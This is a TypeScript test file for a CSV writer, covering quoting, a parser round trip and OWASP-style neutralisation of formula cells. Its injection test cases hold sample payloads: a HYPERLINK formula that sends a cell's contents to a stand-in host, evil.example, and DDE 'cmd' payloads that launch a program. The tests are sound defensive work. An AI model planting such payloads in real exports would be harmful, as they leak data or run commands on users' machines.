import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { csvField, csvRow, neutraliseFormula } from "./csv";

describe("CSV quoting", () => {
  test("quotes only what needs it", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('5" screen')).toBe('"5"" screen"');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("cr\r")).toBe('"cr\r"');
    expect(csvField(" padded ")).toBe('" padded "');
    expect(csvField("")).toBe("");
    expect(csvRow(["a", "b,c"])).toBe('a,"b,c"\r\n');
  });

  test("round trip through a real CSV parser", () => {
    const rows = [
      ["id", "text", "note"],
      ["1", 'She said "hi", then left.', ""],
      ["2", "multi\nline\r\nvalue", " leading space"],
      ["3", "unicode: café 東京 🦜, comma", "=1+1"],
      ["4", '"', ",,,"],
    ];
    const text = rows.map((r) => csvRow(r, "keep")).join("");
    const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toEqual(rows);
  });
});

describe("CSV injection: formula-like cells neutralised by default (OWASP)", () => {
  test.each([
    ["=", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"],
    ["=", "=cmd|' /C calc'!A0"],
    ["+", "+1+1"],
    ["-", "-2+3+cmd|' /C calc'!A0"],
    ["@", "@SUM(1+9)*cmd|' /C calc'!A0"],
    ["tab", "\t=1+1"],
    ["carriage return", "\r=1+1"],
  ])("a cell beginning with %s gets a leading single quote, and reads back with it", (_, value) => {
    expect(neutraliseFormula(value)).toBe("'" + value);
    const parsed = Papa.parse<string[]>(csvRow(["id", value]), { skipEmptyLines: true });
    expect(parsed.data).toEqual([["id", "'" + value]]);
    // Kept as it is when asked.
    expect(Papa.parse<string[]>(csvRow(["id", value], "keep"), { skipEmptyLines: true }).data).toEqual([["id", value]]);
  });

  test("only the first character counts; plain numbers and ordinary text pass unchanged", () => {
    for (const v of ["", "a=1", "x+1", "mail@example.com", " =1", "1-2", "'=already quoted", "é=", "-1.5", "+3", "-0.25e-3", "-.5", "42"]) expect(neutraliseFormula(v)).toBe(v);
    for (const v of ["-", "+", "-1.5+1", "-e", "--1", "-1,5", "=1", "@"]) expect(neutraliseFormula(v)).toBe("'" + v);
  });

  test("quoting still applies after the quote is added", () => {
    expect(csvField('=A1&","&"x"')).toBe(`"'=A1&"",""&""x"""`);
    expect(csvField("\r\n=1")).toBe(`"'\r\n=1"`);
    expect(csvField("=1", "keep")).toBe("=1");
  });
});
